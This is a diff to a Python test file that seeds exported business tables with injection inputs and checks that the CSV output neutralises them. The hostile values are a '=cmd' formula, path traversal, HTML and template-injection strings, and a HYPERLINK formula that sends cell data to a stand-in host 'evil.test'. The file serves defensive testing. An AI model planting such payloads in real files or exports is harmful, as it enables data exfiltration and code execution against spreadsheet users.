@@ -112,25 +112,28 @@ def ran(tmp_path_factory: pytest.TempPathFactory) -> Ran:
     evil = cycle(payloads(secret))
 
     def poisoned(name: str, more: dict[str, str]) -> None:
-        """Give a table these columns: `*` is a payload, another one in each row, `#` the row's number."""
+        """Give a table these columns: `*` is a payload, another one in each row, `#` the row's number, `*#` both, like no other text."""
         head, *rows = company.rows(name)
         columns = [*head, *(column for column in more if column not in head)]
         filled = []
         for number, row in enumerate(rows):
-            own = {column: next(evil) if text == "*" else text.replace("#", str(number)) for column, text in more.items()}
+            own = {
+                column: (next(evil) if "*" in text else "") + text.strip("*").replace("#", f" {number}") for column, text in more.items()
+            }
             cells = dict(zip(head, row, strict=True)) | own
             filled.append([cells[column] for column in columns])
         company.write(name, [columns, *filled])
 
-    names = dict.fromkeys(["name", "region", "industry", "source_channel", "account_manager", "preferred_channel"], "*")
+    # A name that is another customer's region as well would rightly be taken for a leak.
+    names = {"name": "*#"} | dict.fromkeys(["region", "industry", "source_channel", "account_manager", "preferred_channel"], "*")
     poisoned("customers", names | {"birth_date": "1977-07-07", "occupation": f"{PERSONAL}-#", "contact_style": PERSONAL})
     poisoned("orders", {"channel": "*", "site": "*", "salesperson": "*", "promo_code": "*"})
     poisoned("tickets", {"cause": "*", "component": "*", "channel": "*", "team": "*", "agent": "*", "priority": "*"})
     poisoned("surveys", {"comment": f"{PERSONAL} call 13800138000", "touchpoint": "*", "mode": "*", "dimension": "*"})
     rows = company.rows("orders")
     rows += [
-        ["=cmd", "../../pwn", "2026-06-10 10:00:00", "12.00", "", "", *rows[1][6:]],
-        ["<b>1</b>", "{{7*7}}", "2026-06-11 10:00:00", "9.00", "", "", *rows[1][6:]],
+        ["=cmd", "../../pwn-id", "2026-06-10 10:00:00", "12.00", "", "", *rows[1][6:]],
+        ["<b>1</b>", "{{9*9}}", "2026-06-11 10:00:00", "9.00", "", "", *rows[1][6:]],
     ]
     company.write("orders", rows)
     company.write(
@@ -207,7 +210,7 @@ def test_no_cell_of_a_table_is_a_formula(ran: Ran) -> None:
         cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
         seen |= {cell for cell in cells if "HYPERLINK" in cell}
         assert [cell[:60] for cell in cells if live.match(cell) and not number.match(cell)] == [], name
-    assert seen == {'\'=HYPERLINK("http://evil.test/?"&A1,"x")'}, "the formulas are there, as text"
+    assert seen and all(cell.startswith('\'=HYPERLINK("http://evil.test/?"&A1,"x")') for cell in seen), "the formulas are there, as text"
 
 
 def test_a_mail_has_our_headers_one_recipient_and_nothing_else(ran: Ran) -> None:
